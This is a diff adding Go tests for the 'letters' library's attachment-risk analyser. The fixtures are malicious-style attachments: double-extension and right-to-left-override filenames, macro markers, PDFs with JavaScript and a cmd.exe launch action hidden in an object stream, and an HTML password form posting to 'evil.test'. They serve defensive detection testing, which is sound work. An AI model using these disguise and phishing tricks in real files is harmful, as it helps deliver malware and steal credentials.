@@ -0,0 +1,295 @@
+package letters_test
+
+import (
+	"bytes"
+	"compress/zlib"
+	"reflect"
+	"testing"
+
+	"github.com/mnako/letters"
+)
+
+func pdfObjectStream(filter string, data []byte) []byte {
+	var compressed bytes.Buffer
+
+	// The links make the objects compressible, so that the names are not
+	// stored verbatim.
+	w := zlib.NewWriter(&compressed)
+	_, _ = w.Write(bytes.Repeat([]byte("<</Type/Annot/Subtype/Link>>\n"), 20))
+	_, _ = w.Write(data)
+	_ = w.Close()
+
+	return []byte("%PDF-1.7\n5 0 obj\n<</Type/ObjStm/N 1/First 4" +
+		"/Filter" + filter + "/DecodeParms<</Columns 4>>>>\nstream\r\n" +
+		compressed.String() + "\r\nendstream\nendobj\n")
+}
+
+func TestAnalyzeAttachmentRisk(t *testing.T) {
+	t.Parallel()
+
+	oleWithMacros := []byte("\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1\x00\x00" +
+		"_\x00V\x00B\x00A\x00_\x00P\x00R\x00O\x00J\x00E\x00C\x00T\x00" +
+		"\x00\x00")
+
+	testCases := []struct {
+		name             string
+		filename         string
+		contentType      string
+		data             []byte
+		expected         []letters.AttachmentRisk
+		expectedSeverity letters.RiskSeverity
+	}{
+		{
+			name:             "plain text",
+			filename:         "notes.txt",
+			contentType:      "text/plain",
+			data:             []byte("Hello"),
+			expected:         nil,
+			expectedSeverity: letters.RiskSeverityNone,
+		},
+		{
+			name:        "dangerous extension",
+			filename:    "Update.JS",
+			contentType: "application/octet-stream",
+			data:        []byte("WScript.Shell"),
+			expected: []letters.AttachmentRisk{
+				{
+					Kind:     letters.AttachmentRiskDangerousExtension,
+					Severity: letters.RiskSeverityHigh,
+					Detail:   ".js",
+				},
+			},
+			expectedSeverity: letters.RiskSeverityHigh,
+		},
+		{
+			name:        "double extension",
+			filename:    "invoice.pdf   .exe",
+			contentType: "application/pdf",
+			data:        []byte("MZ\x90\x00"),
+			expected: []letters.AttachmentRisk{
+				{
+					Kind:     letters.AttachmentRiskDangerousExtension,
+					Severity: letters.RiskSeverityHigh,
+					Detail:   ".exe",
+				},
+				{
+					Kind:     letters.AttachmentRiskDoubleExtension,
+					Severity: letters.RiskSeverityHigh,
+					Detail:   ".pdf.exe",
+				},
+			},
+			expectedSeverity: letters.RiskSeverityHigh,
+		},
+		{
+			name:        "right-to-left override",
+			filename:    "invoice\u202efdp.scr",
+			contentType: "application/pdf",
+			data:        []byte("MZ\x90\x00"),
+			expected: []letters.AttachmentRisk{
+				{
+					Kind:     letters.AttachmentRiskRightToLeft,
+					Severity: letters.RiskSeverityHigh,
+					Detail:   "invoice\u202efdp.scr",
+				},
+				{
+					Kind:     letters.AttachmentRiskDangerousExtension,
+					Severity: letters.RiskSeverityHigh,
+					Detail:   ".scr",
+				},
+			},
+			expectedSeverity: letters.RiskSeverityHigh,
+		},
+		{
+			name:        "OOXML macros",
+			filename:    "report.docm",
+			contentType: "application/vnd.ms-word.document.macroEnabled.12",
+			data: zipTestData(t, map[string]string{
+				"[Content_Types].xml":     "<Types/>",
+				"word/document.xml":       "<w:document/>",
+				"word/vbaProject.bin":     "\xd0\xcf\x11\xe0",
+				"word/_rels/doc.xml.rels": "<Relationships/>",
+			}),
+			expected: []letters.AttachmentRisk{
+				{
+					Kind:     letters.AttachmentRiskOOXMLMacros,
+					Severity: letters.RiskSeverityMedium,
+					Detail:   "word/vbaProject.bin",
+				},
+			},
+			expectedSeverity: letters.RiskSeverityMedium,
+		},
+		{
+			name:        "OLE macros",
+			filename:    "report.doc",
+			contentType: "application/msword",
+			data:        oleWithMacros,
+			expected: []letters.AttachmentRisk{
+				{
+					Kind:     letters.AttachmentRiskOLEMacros,
+					Severity: letters.RiskSeverityMedium,
+					Detail:   "_VBA_PROJECT",
+				},
+			},
+			expectedSeverity: letters.RiskSeverityMedium,
+		},
+		{
+			name:        "PDF with escaped JavaScript and launch action",
+			filename:    "statement.pdf",
+			contentType: "application/pdf",
+			data: []byte("%PDF-1.7\n1 0 obj\n<</Type/Action/S/J#61vaScript" +
+				"/JS(app.alert(1))>>\nendobj\n" +
+				"2 0 obj\n<</S/Launch/F(cmd.exe)>>\nendobj\n"),
+			expected: []letters.AttachmentRisk{
+				{
+					Kind:     letters.AttachmentRiskPDFJavaScript,
+					Severity: letters.RiskSeverityMedium,
+					Detail:   "/JavaScript",
+				},
+				{
+					Kind:     letters.AttachmentRiskPDFLaunch,
+					Severity: letters.RiskSeverityHigh,
+					Detail:   "/Launch",
+				},
+			},
+			expectedSeverity: letters.RiskSeverityHigh,
+		},
+		{
+			name:        "PDF with JavaScript in an object stream",
+			filename:    "statement.pdf",
+			contentType: "application/pdf",
+			data: pdfObjectStream(
+				"[/FlateDecode]",
+				[]byte("1 0 <</S/JavaScript/JS(app.alert(1))>>"),
+			),
+			expected: []letters.AttachmentRisk{
+				{
+					Kind:     letters.AttachmentRiskPDFJavaScript,
+					Severity: letters.RiskSeverityMedium,
+					Detail:   "/JavaScript",
+				},
+			},
+			expectedSeverity: letters.RiskSeverityMedium,
+		},
+		{
+			name:        "PDF with an object stream in another filter",
+			filename:    "statement.pdf",
+			contentType: "application/pdf",
+			data: pdfObjectStream(
+				"[/ASCIIHexDecode/FlateDecode]",
+				[]byte("1 0 <</S/Launch/F(cmd.exe)>>"),
+			),
+			expected: []letters.AttachmentRisk{
+				{
+					Kind:     letters.AttachmentRiskPDFUninspected,
+					Severity: letters.RiskSeverityLow,
+					Detail:   "/ObjStm",
+				},
+			},
+			expectedSeverity: letters.RiskSeverityLow,
+		},
+		{
+			name:        "PDF with a corrupt object stream",
+			filename:    "statement.pdf",
+			contentType: "application/pdf",
+			data: []byte("%PDF-1.7\n5 0 obj\n<</Type/ObjStm/Filter/Fl>>" +
+				"stream\nnot deflated\nendstream\nendobj\n"),
+			expected: []letters.AttachmentRisk{
+				{
+					Kind:     letters.AttachmentRiskPDFUninspected,
+					Severity: letters.RiskSeverityLow,
+					Detail:   "/ObjStm",
+				},
+			},
+			expectedSeverity: letters.RiskSeverityLow,
+		},
+		{
+			name:        "HTML with a form and a script",
+			filename:    "login.htm",
+			contentType: "application/octet-stream",
+			data: []byte(`<html><body><form action="https://evil.test/">` +
+				`<input type="password"></form><script>x()</script>`),
+			expected: []letters.AttachmentRisk{
+				{
+					Kind:     letters.AttachmentRiskHTMLForm,
+					Severity: letters.RiskSeverityMedium,
+					Detail:   "https://evil.test/",
+				},
+				{
+					Kind:     letters.AttachmentRiskHTMLScript,
+					Severity: letters.RiskSeverityLow,
+					Detail:   "script",
+				},
+			},
+			expectedSeverity: letters.RiskSeverityMedium,
+		},
+		{
+			name:        "HTML with an event handler",
+			filename:    "page.html",
+			contentType: "text/html",
+			data:        []byte(`<img src="x" onerror="run()">`),
+			expected: []letters.AttachmentRisk{
+				{
+					Kind:     letters.AttachmentRiskHTMLScript,
+					Severity: letters.RiskSeverityLow,
+					Detail:   "onerror",
+				},
+			},
+			expectedSeverity: letters.RiskSeverityLow,
+		},
+	}
+
+	for _, tc := range testCases {
+		testCase := tc
+		t.Run(testCase.name, func(t *testing.T) {
+			t.Parallel()
+
+			analysis := letters.AnalyzeAttachmentRisk(
+				testCase.filename,
+				testCase.contentType,
+				testCase.data,
+			)
+
+			if !reflect.DeepEqual(analysis.Findings, testCase.expected) {
+				t.Errorf(
+					"unexpected findings: got %#v, expected %#v",
+					analysis.Findings,
+					testCase.expected,
+				)
+			}
+
+			if analysis.Severity() != testCase.expectedSeverity {
+				t.Errorf(
+					"unexpected severity: got %s, expected %s",
+					analysis.Severity(),
+					testCase.expectedSeverity,
+				)
+			}
+		})
+	}
+}
+
+func TestAttachedFileAnalyzeRisk(t *testing.T) {
+	t.Parallel()
+
+	file := letters.AttachedFile{
+		ContentType: letters.ContentTypeHeader{
+			ContentType: "application/octet-stream",
+			Params:      map[string]string{},
+		},
+		ContentDisposition: letters.ContentDispositionHeader{
+			ContentDisposition: letters.ContentDispositionAttachment,
+			Params: map[string]string{
+				"filename": "=?UTF-8?Q?scan.jpg.lnk?=",
+			},
+		},
+		Data: []byte("L\x00\x00\x00"),
+	}
+
+	analysis := file.AnalyzeRisk()
+
+	if analysis.Filename != "scan.jpg.lnk" ||
+		analysis.Severity() != letters.RiskSeverityHigh ||
+		len(analysis.Findings) != 2 {
+		t.Errorf("unexpected analysis: %#v", analysis)
+	}
+}